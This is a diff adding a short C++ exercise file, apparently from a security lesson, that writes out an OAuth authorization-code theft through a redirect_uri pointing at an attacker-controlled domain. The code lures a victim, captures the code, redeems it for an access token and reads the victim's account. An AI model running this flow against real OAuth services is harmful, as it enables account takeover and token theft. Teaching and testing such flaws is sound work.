@@ -1,0 +1,20 @@
+// Believes: the server sends the browser wherever the link says.
+#include "redirect_prefix.hpp"
+#include "web/url_text.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  const auto trap = "https://" + evidence.your_domain + "/";
+  const auto caught = evidence.lure(
+      evidence.authorize + "?" +
+      web::encode_form(
+          {{"response_type", "code"}, {"client_id", evidence.client_id}, {"redirect_uri", trap}}));
+  const auto answer = evidence.redeem({{"grant_type", "authorization_code"},
+                                       {"client_id", evidence.client_id},
+                                       {"redirect_uri", trap},
+                                       {"code", parameter(caught, "code")}});
+  return {.account = evidence.show_me(answer.json().text("access_token").value_or("")).body};
+}
+
+}  // namespace lesson
